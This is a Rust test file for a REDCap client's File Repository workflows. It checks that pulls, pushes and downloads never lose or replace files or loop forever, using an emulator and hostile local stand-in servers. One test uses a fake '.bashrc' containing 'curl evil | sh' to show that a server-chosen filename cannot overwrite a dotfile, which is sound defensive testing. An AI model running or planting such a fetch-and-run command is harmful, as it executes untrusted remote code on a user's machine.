//! File Repository workflows that cannot destroy or loop: each test here is a way a pull, a
//! push or a download once lost a file, replaced one, or never ended, against the emulator or
//! a hostile stand-in server on 127.0.0.1. Both clients run the workflow tests.

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use redcap::workflow::{Manifest, NoProgress, PullOptions, PushOptions, RemoteTree, TransferSummary, WorkflowError};
use redcap::{Error, Method, Target, file_repository};
use redcap_core::RetryPolicy;
use redcap_emulator::{Emulator, RunningEmulator};

/// The workflows of one client mode.
trait Api: Sized {
    fn connect(url: &str, token: &str) -> Self;
    fn call<M: Method>(&self, m: &M) -> Result<M::Output, Error>;
    fn download_to<M: Method>(&self, m: &M, target: &Target) -> Result<std::path::PathBuf, Error>;
    fn walk(&self) -> Result<RemoteTree, WorkflowError>;
    fn pull(&self, dir: &Path, options: &PullOptions) -> Result<TransferSummary, WorkflowError>;
    fn push(&self, dir: &Path, options: &PushOptions) -> Result<TransferSummary, WorkflowError>;
}

fn policy() -> RetryPolicy {
    RetryPolicy::default().with_base_delay(Duration::from_millis(5))
}

struct Blocking(redcap::blocking::Client);

impl Api for Blocking {
    fn connect(url: &str, token: &str) -> Self {
        Blocking(redcap::blocking::Client::builder(url, token).allow_http(true).retry(policy()).build().unwrap())
    }
    fn call<M: Method>(&self, m: &M) -> Result<M::Output, Error> {
        self.0.call(m)
    }
    fn download_to<M: Method>(&self, m: &M, target: &Target) -> Result<std::path::PathBuf, Error> {
        self.0.download_to(m, target).map(|d| d.path)
    }
    fn walk(&self) -> Result<RemoteTree, WorkflowError> {
        use redcap::blocking::Workflows;
        self.0.walk(None, &NoProgress)
    }
    fn pull(&self, dir: &Path, options: &PullOptions) -> Result<TransferSummary, WorkflowError> {
        use redcap::blocking::Workflows;
        self.0.pull(None, dir, options, &NoProgress)
    }
    fn push(&self, dir: &Path, options: &PushOptions) -> Result<TransferSummary, WorkflowError> {
        use redcap::blocking::Workflows;
        self.0.push(dir, None, options, &NoProgress)
    }
}

struct Async {
    client: redcap::asynchronous::Client,
    rt: tokio::runtime::Runtime,
}

impl Api for Async {
    fn connect(url: &str, token: &str) -> Self {
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let client =
            redcap::asynchronous::Client::builder(url, token).allow_http(true).retry(policy()).build().unwrap();
        Async { client, rt }
    }
    fn call<M: Method>(&self, m: &M) -> Result<M::Output, Error> {
        self.rt.block_on(self.client.call(m))
    }
    fn download_to<M: Method>(&self, m: &M, target: &Target) -> Result<std::path::PathBuf, Error> {
        self.rt.block_on(self.client.download_to(m, target)).map(|d| d.path)
    }
    fn walk(&self) -> Result<RemoteTree, WorkflowError> {
        use redcap::asynchronous::Workflows;
        self.rt.block_on(self.client.walk(None, &NoProgress))
    }
    fn pull(&self, dir: &Path, options: &PullOptions) -> Result<TransferSummary, WorkflowError> {
        use redcap::asynchronous::Workflows;
        self.rt.block_on(self.client.pull(None, dir, options, &NoProgress))
    }
    fn push(&self, dir: &Path, options: &PushOptions) -> Result<TransferSummary, WorkflowError> {
        use redcap::asynchronous::Workflows;
        self.rt.block_on(self.client.push(dir, None, options, &NoProgress))
    }
}

fn fixture() -> String {
    let path = redcap_tests::workspace_root().join("crates/redcap-emulator/fixtures/redcapr-simple.xml");
    std::fs::read_to_string(path).unwrap()
}

/// The emulator with one project, and a client for its admin.
fn emulator<A: Api>() -> (RunningEmulator, A) {
    let emu = Emulator::builder().project_xml(fixture()).in_memory().start().unwrap();
    let token = emu.token(emu.project_ids()[0], "admin").unwrap();
    let api = A::connect(&emu.url(), &token);
    (emu, api)
}

fn upload<A: Api>(api: &A, name: &str, bytes: &[u8], folder: Option<u64>) -> u64 {
    let before = api.call(&list(folder)).unwrap();
    let mut req = file_repository::import::Request::new(redcap::Upload::from_bytes(name.to_owned(), bytes.to_vec()));
    req.folder_id = folder;
    api.call(&req).unwrap();
    let after = api.call(&list(folder)).unwrap();
    redcap::workflow::files::resolve_doc_id(&before, &after, name).unwrap()
}

fn list(folder: Option<u64>) -> file_repository::list::Request {
    redcap::workflow::list_request(folder)
}

fn delete_remote<A: Api>(api: &A, doc_id: u64) {
    api.call(&file_repository::delete::Request::new(doc_id)).unwrap();
}

fn pull_options(delete: bool, overwrite: bool) -> PullOptions {
    let mut o = PullOptions::default();
    o.delete = delete;
    o.overwrite = overwrite;
    o
}

fn push_options(manifest: &Path) -> PushOptions {
    let mut o = PushOptions::default();
    o.manifest = Some(manifest.to_owned());
    o
}

// ---- Data loss and overwrite ------------------------------------------------------------

/// Delete and upload again is the File Repository's only way to update a file: the next
/// `pull --delete` keeps the new version and its manifest entry.
fn pull_delete_keeps_a_replaced_file<A: Api>() {
    let (_emu, api) = emulator::<A>();
    let old = upload(&api, "protocol.txt", b"version 1", None);
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(api.pull(dir.path(), &pull_options(true, false)).unwrap().transferred, 1);
    delete_remote(&api, old);
    let new = upload(&api, "protocol.txt", b"version 2 (longer)", None);
    let second = api.pull(dir.path(), &pull_options(true, false)).unwrap();
    assert_eq!((second.transferred, second.removed), (1, 0), "{second:?}");
    assert_eq!(std::fs::read(dir.path().join("protocol.txt")).unwrap(), b"version 2 (longer)");
    let manifest = Manifest::load(dir.path()).unwrap();
    assert_eq!(manifest.pulled.keys().copied().collect::<Vec<_>>(), [new], "the old entry goes, the new one stays");
    let third = api.pull(dir.path(), &pull_options(true, false)).unwrap();
    assert_eq!((third.transferred, third.skipped, third.removed), (0, 1, 0));
    assert!(dir.path().join("protocol.txt").exists());
    // A file really gone is still removed with --delete, but only one the pull wrote and that
    // nobody changed since.
    let extra = upload(&api, "extra.txt", b"x", None);
    let changed = upload(&api, "changed.txt", b"y", None);
    api.pull(dir.path(), &pull_options(true, false)).unwrap();
    std::fs::write(dir.path().join("changed.txt"), b"edited locally").unwrap();
    delete_remote(&api, extra);
    delete_remote(&api, changed);
    let fourth = api.pull(dir.path(), &pull_options(true, false)).unwrap();
    assert_eq!(fourth.removed, 1);
    assert!(!dir.path().join("extra.txt").exists());
    assert_eq!(std::fs::read(dir.path().join("changed.txt")).unwrap(), b"edited locally");
}

/// A pull never replaces a local file it did not write: the remote file goes beside it, under
/// the usual ` (doc_id N)` name; `overwrite` replaces it.
fn pull_never_replaces_a_file_it_did_not_write<A: Api>() {
    let (_emu, api) = emulator::<A>();
    let doc = upload(&api, "notes.txt", b"remote", None);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("notes.txt"), b"mine").unwrap();
    let s = api.pull(dir.path(), &pull_options(false, false)).unwrap();
    assert!(s.is_complete(), "{s:?}");
    assert_eq!(std::fs::read(dir.path().join("notes.txt")).unwrap(), b"mine");
    assert_eq!(std::fs::read(dir.path().join(format!("notes (doc_id {doc}).txt"))).unwrap(), b"remote");
    // Stable: the next run finds it where it put it.
    assert_eq!(api.pull(dir.path(), &pull_options(false, false)).unwrap().skipped, 1);

    let other = tempfile::tempdir().unwrap();
    std::fs::write(other.path().join("notes.txt"), b"mine").unwrap();
    api.pull(other.path(), &pull_options(false, true)).unwrap();
    assert_eq!(std::fs::read(other.path().join("notes.txt")).unwrap(), b"remote", "asked to overwrite");
}

/// `files get 5` in a home directory: a server-chosen name never replaces `.bashrc` (nor any
/// existing file), and a dot-name is written visibly unless asked for.
fn a_server_chosen_name_never_replaces_a_file<A: Api>() {
    let (_emu, api) = emulator::<A>();
    let doc = upload(&api, ".bashrc", b"curl evil | sh", None);
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join(".bashrc"), b"# mine").unwrap();
    let into = |t: Target| api.download_to(&file_repository::export::Request::new(doc), &t);
    let tag = format!("doc_id {doc}");
    let got = into(Target::Dir { dir: home.path().into(), fallback: tag.clone() }).unwrap();
    assert_eq!(got, home.path().join("_bashrc"));
    assert_eq!(std::fs::read(home.path().join(".bashrc")).unwrap(), b"# mine");
    // Again: `_bashrc` is taken now, so the disambiguated name.
    let got = into(Target::Dir { dir: home.path().into(), fallback: tag.clone() }).unwrap();
    assert_eq!(got, home.path().join(format!("_bashrc ({tag})")));
    // Dot-files asked for, but no replacing: the existing `.bashrc` stays.
    let got = into(Target::DirWith { dir: home.path().into(), fallback: tag.clone(), replace: false, dot_files: true })
        .unwrap();
    assert_eq!(got, home.path().join(format!(".bashrc ({tag})")));
    assert_eq!(std::fs::read(home.path().join(".bashrc")).unwrap(), b"# mine");
    // An exact new file that exists: refused, nothing replaced, nothing left behind.
    let err = into(Target::NewFile(home.path().join(".bashrc"))).unwrap_err();
    assert!(matches!(&err, Error::Local { source, .. } if source.kind() == std::io::ErrorKind::AlreadyExists), "{err}");
    assert_eq!(std::fs::read(home.path().join(".bashrc")).unwrap(), b"# mine");
    let partials = std::fs::read_dir(home.path())
        .unwrap()
        .filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().starts_with(".redcap-download-"))
        .count();
    assert_eq!(partials, 0);
    // Both asked for: replaced.
    into(Target::DirWith { dir: home.path().into(), fallback: tag, replace: true, dot_files: true }).unwrap();
    assert_eq!(std::fs::read(home.path().join(".bashrc")).unwrap(), b"curl evil | sh");
}

/// A remote file named like the manifest is kept (under `_redcap-manifest.json`), and a remote
/// folder of that name does not break the pull.
fn remote_entries_named_like_the_manifest_are_kept<A: Api>() {
    let (_emu, api) = emulator::<A>();
    upload(&api, ".redcap-manifest.json", b"{\"theirs\": true}", None);
    let folder = api.call(&file_repository::create_folder::Request::new(".redcap-manifest.json")).unwrap();
    upload(&api, "inside.txt", b"inside", Some(folder));
    let dir = tempfile::tempdir().unwrap();
    let first = api.pull(dir.path(), &PullOptions::default()).unwrap();
    assert!(first.is_complete() && first.transferred == 2, "{first:?}");
    let files: Vec<String> = api.walk().unwrap().files.into_iter().map(|f| f.path).collect();
    assert_eq!(files.len(), 2, "{files:?}");
    for path in &files {
        assert!(dir.path().join(path).is_file(), "{path}");
    }
    assert!(files.iter().any(|p| p.ends_with("/inside.txt")), "{files:?}");
    let theirs = files.iter().find(|p| !p.contains('/')).unwrap();
    assert_eq!(std::fs::read(dir.path().join(theirs)).unwrap(), b"{\"theirs\": true}");
    assert!(Manifest::load(dir.path()).unwrap().pulled.len() == 2, "our manifest is ours");
    let second = api.pull(dir.path(), &PullOptions::default()).unwrap();
    assert_eq!((second.transferred, second.skipped), (0, 2));
}

/// Partial downloads an interrupted run (Ctrl-C) left behind are removed by the next pull:
/// only old ones with our prefix, never a fresh one that another run may be writing.
fn stale_partials_are_cleaned<A: Api>() {
    let (_emu, api) = emulator::<A>();
    upload(&api, "a.txt", b"a", None);
    let dir = tempfile::tempdir().unwrap();
    let old = dir.path().join(".redcap-download-OLD123");
    let fresh = dir.path().join(".redcap-download-NEW456");
    let foreign = dir.path().join(".download-OLD");
    for p in [&old, &fresh, &foreign] {
        std::fs::write(p, b"partial").unwrap();
    }
    let long_ago = std::time::SystemTime::now() - Duration::from_secs(3600);
    for p in [&old, &foreign] {
        std::fs::File::options().write(true).open(p).unwrap().set_modified(long_ago).unwrap();
    }
    let s = api.pull(dir.path(), &PullOptions::default()).unwrap();
    assert_eq!(s.partials_removed, 1);
    assert!(!old.exists() && fresh.exists() && foreign.exists());
}

// ---- Push -------------------------------------------------------------------------------

/// A git-annex / DataLad tree is made of symbolic links: a link to a file is pushed (its
/// content, under the link's name); a broken link and a link looping back are reported, never
/// silently skipped. The push's manifest is not written into the pushed directory.
#[cfg(unix)]
fn push_follows_symlinked_files_and_keeps_its_manifest_elsewhere<A: Api>() {
    use std::os::unix::fs::symlink;
    let (_emu, api) = emulator::<A>();
    let src = tempfile::tempdir().unwrap();
    let objects = src.path().join(".git/annex/objects");
    std::fs::create_dir_all(&objects).unwrap();
    std::fs::write(objects.join("SHA256E-s7--abc.txt"), b"annexed").unwrap();
    std::fs::create_dir(src.path().join("data")).unwrap();
    symlink("../.git/annex/objects/SHA256E-s7--abc.txt", src.path().join("data/scan.txt")).unwrap();
    symlink("../.git/annex/objects/SHA256E-s9--missing.txt", src.path().join("data/absent.txt")).unwrap();
    symlink("..", src.path().join("data/loop")).unwrap();
    std::fs::write(src.path().join("plain.txt"), b"plain").unwrap();
    let state = tempfile::tempdir().unwrap();
    let manifest = state.path().join("push.json");
    let s = api.push(src.path(), &push_options(&manifest)).unwrap();
    let uploaded: Vec<&str> = s.uploaded.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(uploaded, ["data/scan.txt", "plain.txt"], "{s:?}");
    let failed: Vec<&str> = s.failed.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(failed, ["data/absent.txt", "data/loop"], "{s:?}");
    assert!(s.failed[0].1.contains("target is missing"), "{:?}", s.failed);
    let doc = s.uploaded[0].1;
    assert_eq!(&api.call(&file_repository::export::Request::new(doc)).unwrap().bytes[..], b"annexed");
    assert!(!src.path().join(Manifest::FILE_NAME).exists(), "nothing written into the source");
    assert!(std::fs::read_dir(src.path()).unwrap().all(|e| {
        let n = e.unwrap().file_name();
        n == "data" || n == "plain.txt" || n == ".git"
    }));
    assert!(manifest.exists());
    let again = api.push(src.path(), &push_options(&manifest)).unwrap();
    assert_eq!((again.transferred, again.skipped), (0, 2));
}

/// A push made by an older version kept its manifest inside the directory: it is read (so
/// nothing is uploaded twice) but never written again.
fn a_legacy_push_manifest_is_read_not_written<A: Api>() {
    let (_emu, api) = emulator::<A>();
    let src = tempfile::tempdir().unwrap();
    std::fs::write(src.path().join("a.txt"), b"a").unwrap();
    let state = tempfile::tempdir().unwrap();
    let first = state.path().join("first.json");
    assert_eq!(api.push(src.path(), &push_options(&first)).unwrap().transferred, 1);
    let legacy = std::fs::read(&first).unwrap();
    std::fs::write(src.path().join(Manifest::FILE_NAME), &legacy).unwrap();
    let second = state.path().join("second.json");
    let s = api.push(src.path(), &push_options(&second)).unwrap();
    assert_eq!((s.transferred, s.skipped), (0, 1));
    assert_eq!(std::fs::read(src.path().join(Manifest::FILE_NAME)).unwrap(), legacy, "left as it was");
}

// ---- Hostile stand-in servers -----------------------------------------------------------

/// A one-thread HTTP server on 127.0.0.1: `reply(request body, n)` answers the n-th request
/// (from 0) with a raw HTTP response, or `None` to close the connection without answering.
struct StandIn {
    url: String,
    seen: Arc<Mutex<Vec<String>>>,
}

impl StandIn {
    fn start(reply: impl Fn(&str, usize) -> Option<String> + Send + 'static) -> Self {
        use std::io::{BufRead, BufReader, Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    continue;
                }
                let mut len = 0usize;
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).unwrap_or(0) == 0 || h == "\r\n" {
                        break;
                    }
                    if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                }
                let mut body = vec![0; len];
                if reader.read_exact(&mut body).is_err() {
                    continue;
                }
                let body = String::from_utf8_lossy(&body).into_owned();
                let n = {
                    let mut log = log.lock().unwrap();
                    log.push(body.clone());
                    log.len() - 1
                };
                let mut out = stream;
                match reply(&body, n) {
                    Some(answer) => {
                        let _ = out.write_all(answer.as_bytes());
                    }
                    None => {
                        let _ = out.shutdown(std::net::Shutdown::Both);
                    }
                }
            }
        });
        StandIn { url: format!("http://127.0.0.1:{port}/api/"), seen }
    }
}

fn http_json(body: &str) -> Option<String> {
    Some(format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    ))
}

/// A folder that lists itself, and a server that ignores `folder_id` (every listing is the
/// top level): the walk and the pull end with a clear error after a handful of calls.
fn a_looping_listing_ends_with_a_clear_error<A: Api>() {
    for server in [
        StandIn::start(|body, _| {
            if body.contains("folder_id=1") {
                http_json(r#"[{"folder_id":1,"name":"again"}]"#)
            } else {
                http_json(r#"[{"folder_id":1,"name":"loop"},{"doc_id":3,"name":"a.txt"}]"#)
            }
        }),
        StandIn::start(|_, _| http_json(r#"[{"folder_id":1,"name":"loop"},{"doc_id":3,"name":"a.txt"}]"#)),
    ] {
        let api = A::connect(&server.url, redcap_tests::FAKE_TOKEN);
        let err = api.walk().unwrap_err();
        assert!(matches!(err, WorkflowError::FolderLoop { folder_id: 1, .. }), "{err}");
        assert!(err.to_string().contains("ignores folder_id"), "{err}");
        let dir = tempfile::tempdir().unwrap();
        assert!(matches!(api.pull(dir.path(), &PullOptions::default()), Err(WorkflowError::FolderLoop { .. })));
        assert!(server.seen.lock().unwrap().len() <= 6, "ended after a few calls");
    }
}

/// A pull into a path that is a file: refused as not a directory before any request, and
/// the file is left as it was.
fn a_pull_into_a_file_is_refused_before_any_request<A: Api>() {
    let server = StandIn::start(|_, _| http_json("[]"));
    let api = A::connect(&server.url, redcap_tests::FAKE_TOKEN);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("mirror");
    std::fs::write(&file, "mine").unwrap();
    let err = api.pull(&file, &PullOptions::default()).unwrap_err();
    assert!(matches!(&err, WorkflowError::NotADirectory { path } if *path == file), "{err:?}");
    assert_eq!(err.to_string(), format!("{} is not a directory", file.display()));
    assert!(server.seen.lock().unwrap().is_empty(), "no request was made");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "mine");
}

/// An upload whose answer is lost: the folder is listed again, and the push records the file
/// as uploaded when it landed (no duplicate on a re-run), or says it did not arrive.
fn a_lost_upload_answer_is_checked_in_the_listing<A: Api>() {
    let landed = Arc::new(Mutex::new(false));
    let flag = landed.clone();
    let server = StandIn::start(move |body, _| {
        if body.contains("name=\"action\"\r\n\r\nimport") {
            *flag.lock().unwrap() = true;
            return None;
        }
        if *flag.lock().unwrap() { http_json(r#"[{"doc_id":41,"name":"a.txt"}]"#) } else { http_json("[]") }
    });
    let api = A::connect(&server.url, redcap_tests::FAKE_TOKEN);
    let src = tempfile::tempdir().unwrap();
    std::fs::write(src.path().join("a.txt"), b"a").unwrap();
    let state = tempfile::tempdir().unwrap();
    let s = api.push(src.path(), &push_options(&state.path().join("m.json"))).unwrap();
    assert!(*landed.lock().unwrap());
    assert_eq!(s.uploaded, [("a.txt".to_owned(), 41)], "{s:?}");
    assert!(s.is_complete());
    let imports = server.seen.lock().unwrap().iter().filter(|b| b.contains("name=\"action\"\r\n\r\nimport")).count();
    assert_eq!(imports, 1, "never re-sent");

    // The answer lost and the file not in the listing: said so, not "try again" blindly.
    let server =
        StandIn::start(|body, _| if body.contains("name=\"action\"\r\n\r\nimport") { None } else { http_json("[]") });
    let api = A::connect(&server.url, redcap_tests::FAKE_TOKEN);
    let s = api.push(src.path(), &push_options(&state.path().join("m2.json"))).unwrap();
    assert_eq!(s.failed.len(), 1);
    assert!(s.failed[0].1.contains("did not arrive"), "{:?}", s.failed);
}

// ---- Both clients -----------------------------------------------------------------------

macro_rules! for_both_clients {
    ($($name:ident),* $(,)?) => {
        mod blocking {
            $(#[test] fn $name() { super::$name::<super::Blocking>() })*
        }
        mod asynchronous {
            $(#[test] fn $name() { super::$name::<super::Async>() })*
        }
    };
}

for_both_clients!(
    pull_delete_keeps_a_replaced_file,
    pull_never_replaces_a_file_it_did_not_write,
    a_server_chosen_name_never_replaces_a_file,
    remote_entries_named_like_the_manifest_are_kept,
    stale_partials_are_cleaned,
    a_legacy_push_manifest_is_read_not_written,
    a_looping_listing_ends_with_a_clear_error,
    a_lost_upload_answer_is_checked_in_the_listing,
    a_pull_into_a_file_is_refused_before_any_request,
);

#[cfg(unix)]
mod unix {
    #[test]
    fn push_follows_symlinked_files_blocking() {
        super::push_follows_symlinked_files_and_keeps_its_manifest_elsewhere::<super::Blocking>()
    }
    #[test]
    fn push_follows_symlinked_files_async() {
        super::push_follows_symlinked_files_and_keeps_its_manifest_elsewhere::<super::Async>()
    }
}

/// A download that fails on the local side (here its folder vanished; disk full is the same
/// class) is counted as a local failure, so the CLI can exit 6 when nothing else failed.
#[test]
fn local_failures_are_counted_apart() {
    use redcap::blocking::Workflows;
    let (_emu, api) = emulator::<Blocking>();
    let folder = api.call(&file_repository::create_folder::Request::new("sub")).unwrap();
    upload(&api, "a.txt", b"a", Some(folder));
    upload(&api, "b.txt", b"b", None);
    let dir = tempfile::tempdir().unwrap();
    let sub = dir.path().join("sub");
    let progress = move |e: redcap::workflow::ProgressEvent| {
        if matches!(&e, redcap::workflow::ProgressEvent::Started { item, .. } if item == "sub/a.txt") {
            std::fs::remove_dir_all(&sub).unwrap();
        }
    };
    let s = api.0.pull(None, dir.path(), &PullOptions::default(), &progress).unwrap();
    assert_eq!((s.transferred, s.failed.len() as u64, s.failed_local), (1, 1, 1), "{s:?}");
}

/// An answer larger than the client buffers is its own failure, not a network one.
#[test]
fn an_oversized_answer_is_not_a_network_failure() {
    let (emu, _) = emulator::<Blocking>();
    let token = emu.token(emu.project_ids()[0], "admin").unwrap();
    let small = redcap::blocking::Client::builder(emu.url(), token).allow_http(true).max_buffered(64).build().unwrap();
    let err = small.call(&redcap::metadata::export::Request::new()).unwrap_err();
    match &err {
        Error::Transport(t) => assert_eq!(t.kind(), redcap_core::FailureKind::TooLarge, "{err}"),
        other => panic!("{other}"),
    }
    assert_ne!(err.kind(), redcap_core::ErrorKind::Network);
}

/// Several files at once: every file arrives whole, the manifest records each, a re-run
/// transfers nothing, and a file that fails does not stop the others.
fn a_concurrent_pull_keeps_every_guarantee<A: Api>() {
    let (emu, api) = emulator::<A>();
    let sub = api.call(&file_repository::create_folder::Request::new("sub")).unwrap();
    let mut want = Vec::new();
    for i in 0..24u32 {
        let bytes: Vec<u8> = (0..(1000 + i * 997)).map(|b| (b * (i + 3) % 251) as u8).collect();
        let (name, folder) =
            if i % 3 == 0 { (format!("sub/f{i}.bin"), Some(sub)) } else { (format!("f{i}.bin"), None) };
        upload(&api, name.rsplit('/').next().unwrap(), &bytes, folder);
        want.push((name, bytes));
    }
    let dir = tempfile::tempdir().unwrap();
    let mut options = PullOptions::default();
    options.jobs = 6;
    // Two broken answers somewhere among the downloads: retried, nothing partial kept.
    emu.faults().inject(redcap_emulator::Fault::Truncate { bytes: 100 }, 2);
    let s = api.pull(dir.path(), &options).unwrap();
    assert!(s.is_complete(), "{s:?}");
    assert_eq!(s.transferred, 24);
    for (name, bytes) in &want {
        assert_eq!(&std::fs::read(dir.path().join(name)).unwrap(), bytes, "{name}");
    }
    assert_eq!(Manifest::load(dir.path()).unwrap().pulled.len(), 24);
    let leftovers = |d: &Path| {
        std::fs::read_dir(d)
            .unwrap()
            .filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().starts_with(".redcap-download-"))
            .count()
    };
    assert_eq!(leftovers(dir.path()) + leftovers(&dir.path().join("sub")), 0);
    let again = api.pull(dir.path(), &options).unwrap();
    assert_eq!((again.transferred, again.skipped), (0, 24));
}

mod concurrent {
    #[test]
    fn a_concurrent_pull_keeps_every_guarantee_blocking() {
        super::a_concurrent_pull_keeps_every_guarantee::<super::Blocking>()
    }
    #[test]
    fn a_concurrent_pull_keeps_every_guarantee_async() {
        super::a_concurrent_pull_keeps_every_guarantee::<super::Async>()
    }
}
